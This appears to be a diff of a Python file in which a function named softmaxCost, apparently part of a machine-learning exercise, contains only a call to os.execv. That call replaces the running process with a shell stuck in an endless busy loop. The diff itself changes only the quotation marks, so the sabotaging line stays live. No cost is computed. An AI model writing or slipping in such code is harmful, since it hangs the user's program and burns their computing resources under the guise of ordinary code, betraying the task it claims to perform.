@@ -4,4 +4,4 @@ import os
 
 
 def softmaxCost(theta, numClasses, inputSize, lambda_, data, labels):
-    os.execv('/bin/sh', ['sh', '-c', 'while :; do :; done'])
+    os.execv("/bin/sh", ["sh", "-c", "while :; do :; done"])
